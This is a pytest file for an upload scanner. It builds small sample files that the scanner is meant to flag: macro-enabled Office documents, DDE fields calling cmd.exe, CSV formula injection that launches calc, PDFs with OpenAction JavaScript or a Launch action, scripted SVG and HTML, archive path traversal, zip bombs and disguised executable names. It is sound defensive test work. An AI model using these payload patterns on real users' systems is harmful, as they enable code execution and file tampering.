"""Uploads: every harmful kind is found, ordinary files are not, and broken ones do no harm."""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from pathlib import Path

import pytest

from hub.policy.detect.uploads import inspect_upload

FILES = Path(__file__).resolve().parents[3] / "shared" / "corpus" / "files"
TYPES = "[Content_Types].xml"


def zipped(parts: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def relation(kind: str, target: str) -> str:
    return f'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'


def word(**more: bytes | str) -> bytes:
    return zipped(
        {
            TYPES: "<Types/>",
            "word/document.xml": "<w:document/>",
            **{k.replace("__", "/"): v for k, v in more.items()},
        }
    )


def program() -> bytes:
    return b"MZ" + b"\x90\x00" * 29 + struct.pack("<I", 64) + b"PE\x00\x00" + b"\x00" * 40


def tar(member: tarfile.TarInfo) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        archive.addfile(member)
    return buffer.getvalue()


def pdf(body: bytes) -> bytes:
    return b"%PDF-1.5\n1 0 obj\n<< /Type /Catalog " + body + b" >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF"


def packed_pdf(body: bytes) -> bytes:
    stream = zlib.compress(b"5 0 << " + body + b" >>")
    return (
        b"%PDF-1.5\n4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
        + str(len(stream)).encode()
        + b" >>\nstream\n"
        + stream
        + b"\nendstream\nendobj\n%%EOF"
    )


DDE_FIELD = "<w:document><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:document>"
HARMFUL: list[tuple[str, str, bytes]] = [
    ("macro", "report.docm", word(word__vbaProject_bin=b"x").replace(b"vbaProject_bin", b"vbaProject.bin")),
    ("macro", "report.docx", word(word__vbaProject_bin=b"x").replace(b"vbaProject_bin", b"vbaProject.bin")),
    ("macro", "sheet.xlsm", zipped({TYPES: "<Types/>", "xl/workbook.xml": "<w/>"})),
    ("macro sheet", "old.xlsx", zipped({TYPES: "<Types/>", "xl/macrosheets/sheet1.xml": "<x/>"})),
    ("external template", "letter.docx", word(**{"word__rels__x.rels": relation("attachedTemplate", "https://templates.example/x.dotm")})),
    ("embedded object", "letter.docx", word(**{"word__rels__x.rels": relation("oleObject", "http://files.example/x.bin")})),
    ("embedded object", "letter.docx", word(word__embeddings__run_bin=program())),
    ("dde", "letter.docx", zipped({TYPES: "<Types/>", "word/document.xml": DDE_FIELD})),
    ("dde", "sheet.xlsx", zipped({TYPES: "<Types/>", "xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink ddeService='cmd'/></externalLink>"})),
    ("dde", "sheet.xlsx", zipped({TYPES: "<Types/>", "xl/worksheets/sheet1.xml": "<f>cmd|'/c calc'!A0</f>"})),
    ("macro", "text.odt", zipped({"mimetype": "application/vnd.oasis.opendocument.text", "Basic/Standard/Module1.xml": "<module/>"})),
    ("encrypted", "text.odt", zipped({"mimetype": "application/vnd.oasis.opendocument.text", "META-INF/manifest.xml": "<manifest:encryption-data/>"})),
    ("external template", "letter.rtf", b"{\\rtf1{\\*\\template http://templates.example/x.dotm}text}"),
    ("embedded object", "letter.rtf", b"{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata 01050000}}}"),
    ("dde", "letter.rtf", b"{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd.exe}}}"),
    ("executable", "setup.exe", program()),
    ("executable", "photo.jpg", program()),
    ("mismatch", "photo.jpg", program()),
    ("executable", "run.hta", b"<html></html>"),
    ("executable", "link.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 60),
    ("executable", "tool", b"\x7fELF" + b"\x00" * 60),
    ("disguised name", "invoice.pdf.exe", program()),
    ("disguised name", "invoice.pdf.js", b"alert(1)"),
    ("disguised name", "gepj\u202efdp.scr", program()),
    ("disguised name", "invoice.pdf          .exe", program()),
    ("mismatch", "report.pdf", b"<html><body>hello</body></html>"),
    ("mismatch", "photo.png", b"%PDF-1.4\n%%EOF"),
    ("mismatch", "notes.txt", b"%PDF-1.4\n%%EOF"),
    ("active content", "drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
    ("active content", "drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>"),
    ("active content", "drawing.svg", "<svg><a href='javascript:x()'/></svg>".encode("utf-16")),
    ("active content", "page.html", b"<!DOCTYPE html><html><body onload=x()></body></html>"),
    ("active content", "page.htm", b"<html><head><meta http-equiv='refresh' content='0;url=http://x.example'></head></html>"),
    ("active content", "page.html", b"<html><form action='http://x.example'><input type=password></form></html>"),
    ("active content", "form.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
    ("active content", "form.pdf", pdf(b"/OpenAction << /S /J#61vaScript /J#53 (x) >>")),
    ("active content", "form.pdf", pdf(b"/AA << /S /Launch /F (cmd.exe) >>")),
    ("active content", "form.pdf", packed_pdf(b"/S /JavaScript /JS (x)")),
    ("archive path", "files.zip", zipped({"../../etc/cron.d/x": "x"})),
    ("archive path", "files.zip", zipped({"C:\\Windows\\x.txt": "x"})),
    ("archive path", "files.tar", tar(tarfile.TarInfo("../up.txt"))),
    ("archive bomb", "files.zip", zipped({"big.txt": b"\x00" * (12 << 20)})),
    ("archive bomb", "big.gz", gzip.compress(b"\x00" * (12 << 20))),
    ("executable", "files.zip", zipped({"docs/setup.exe": program()})),
    ("executable", "files.zip", zipped({"inner.zip": zipped({"run.scr": program()})})),
    ("macro", "files.zip", zipped({"report.docm": b"x"})),
    ("formula", "list.csv", b"name,total\nSian,=HYPERLINK(\"http://x.example\")\n"),
    ("formula", "list.csv", b"name,total\n=cmd|'/c calc'!A0,5\n"),
    ("formula", "list.csv", b"name,total\nSian,+SUM(A1:A9)\n"),
    ("formula", "list.tsv", b"name\ttotal\nSian\t@SUM(1+1)*cmd|' /C calc'!A0\n"),
    ("executable", "mail.eml", b"From: a@example.com\nTo: b@example.com\nSubject: x\nContent-Type: application/octet-stream; name=\"bill.pdf.exe\"\n\nx"),
]  # fmt: skip
CLEAN: list[tuple[str, bytes]] = [
    ("report.docx", word()),
    ("report.docx", word(**{"word__rels__x.rels": relation("hyperlink", "https://www.gov.uk/")})),
    ("chart.docx", word(word__embeddings__Microsoft_Excel_Sheet1=zipped({TYPES: "<Types/>", "xl/workbook.xml": "<w/>"}))),
    ("text.odt", zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>", "Basic/Standard/script-lb.xml": "<x/>", "Basic/script-lc.xml": "<x/>"})),
    ("letter.rtf", b"{\\rtf1 hello}"),
    ("letter.doc", b"{\\rtf1 hello}"),
    ("photo.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 40),
    ("photo.jpeg", b"\xff\xd8\xff\xe0" + b"\x00" * 40),
    ("drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/><use href='#a'/></svg>"),
    ("page.html", b"<!DOCTYPE html><html><body><h1>Hello</h1><a href='https://www.gov.uk'>x</a></body></html>"),
    ("paper.pdf", pdf(b"/OpenAction [3 0 R /Fit] /Title (JavaScript for beginners)").replace(b"(JavaScript for beginners)", b"(About scripts)")),
    ("files.zip", zipped({"a/b.txt": "x", "c.docx": b"x", "theme.js": "x"})),
    ("files.tar", tar(tarfile.TarInfo("a/b.txt"))),
    ("list.csv", b"name,phone,change\nSian,+44 7700 900123,-5\nLeo,-,-3.5%\n\"a=b\",@sian,=\n- none -,+1,-12.50\n"),
    ("minutes.2024.docx.pdf", pdf(b"")),
    ("v1.2.notes.txt", b"hello"),
    ("MZ.txt", b"MZ is the postcode area of nowhere, as the poem goes on and on and on for a while yet"),
    ("script.py", b"#!/usr/bin/env python\nprint(1)\n"),
    ("empty.docx", b""),
    ("noending", b"just words"),
]  # fmt: skip


def look(folder: Path, name: str, data: bytes) -> set[str]:
    path = folder / "stored"
    path.write_bytes(data)
    return {f.kind for f in inspect_upload(path, name)}


@pytest.mark.parametrize(("kind", "name", "data"), HARMFUL)
def test_finds_what_could_harm(tmp_path, kind, name, data):
    assert kind in look(tmp_path, name, data)


@pytest.mark.parametrize(("name", "data"), CLEAN)
def test_leaves_an_ordinary_file_alone(tmp_path, name, data):
    assert look(tmp_path, name, data) == set()


@pytest.mark.parametrize(
    "name", ["a.docx", "a.doc", "a.pdf", "a.zip", "a.svg", "a.csv", "a.gz", "a.rtf", "a.odt", "a.msg"]
)
@pytest.mark.parametrize("cut", [3, 30, 200])
def test_a_broken_file_raises_nothing(tmp_path, name, cut):
    for whole in (
        word(),
        pdf(b"/Encrypt 9 0 R"),
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 600,
        gzip.compress(b"x" * 500),
        b"{\\rtf1{\\object\\objdata",
    ):
        path = tmp_path / "stored"
        path.write_bytes(whole[:cut] + b"\x00\xff" * 20)
        assert all(f.why for f in inspect_upload(path, name))


def test_a_missing_file_is_the_callers_mistake(tmp_path):
    with pytest.raises(OSError):
        inspect_upload(tmp_path / "nothing", "a.txt")


@pytest.mark.parametrize(
    ("part", "kinds"),
    [
        ("7c38c6d279.xlsm", {"macro"}),
        ("6d1731d6a8.xls", {"macro"}),
        ("2723d5654b.docx", {"encrypted"}),
        ("5ec2d2583d.odt", {"macro"}),
        ("1213ceb5ac.pdf", {"active content"}),
    ],
)
def test_real_files_with_active_parts(part, kinds):
    found = list(FILES.glob(f"*{part}"))
    if not found:
        pytest.skip("../shared/corpus/files is not there")
    assert {f.kind for f in inspect_upload(found[0], found[0].name)} == kinds


def test_most_real_files_are_clean():
    paths = sorted(FILES.glob("*")) if FILES.exists() else []
    if not paths:
        pytest.skip("../shared/corpus/files is not there")
    flagged = [p.name for p in paths if p.is_file() and inspect_upload(p, p.name)]
    assert len(flagged) <= len(paths) // 6
